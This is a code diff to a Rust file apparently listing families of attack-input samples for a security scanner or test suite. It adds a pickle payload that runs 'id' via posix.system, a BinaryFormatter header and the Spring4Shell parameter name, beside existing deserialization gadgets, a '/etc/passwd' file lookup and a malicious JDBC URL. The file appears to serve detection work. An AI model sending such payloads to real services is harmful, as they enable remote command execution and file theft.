@@ -272,6 +272,10 @@ pub const FAMILIES: &[Family] = &[
             "Y29zCnN5c3RlbQooUydpZCcKdFIu",
             "gASVKwAAAAAAAACMCnN1YnByb2Nlc3OUjAxjaGVja19vdXRwdXSUk5RdlIwCaWSUYYWUUpQu",
             "BAhvOhVHZW06OlJlcXVpcmVtZW50BjoQQHJlcXVpcmVtZW50cw==",
+            // As pickle.dumps writes protocol 0 (memo opcodes), and a
+            // BinaryFormatter header in lowercase hex.
+            "cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n.",
+            "0001000000ffffffff01000000000000000c02000000",
         ],
     },
     Family {
@@ -291,6 +295,8 @@ pub const FAMILIES: &[Family] = &[
             "${file:UTF-8:/etc/passwd}",
             "jdbc:mysql://203.0.113.5:3306/t?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
             "H4sIAAAAAAACA1vzloG1uIhBMCuxLFGvtCQzR88jsTjDN7GAlf3WwcNiCReZGZjcGLhy8hNT3BKTS/KLPBk4SzKKUosz8nNSKgrsHRhAgKecA0gKgJgVABrl5KNSAAAA",
+            // Spring4Shell's parameter name, as a value too.
+            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
         ],
     },
     // Redirect targets a check reads as this site's path or name and a
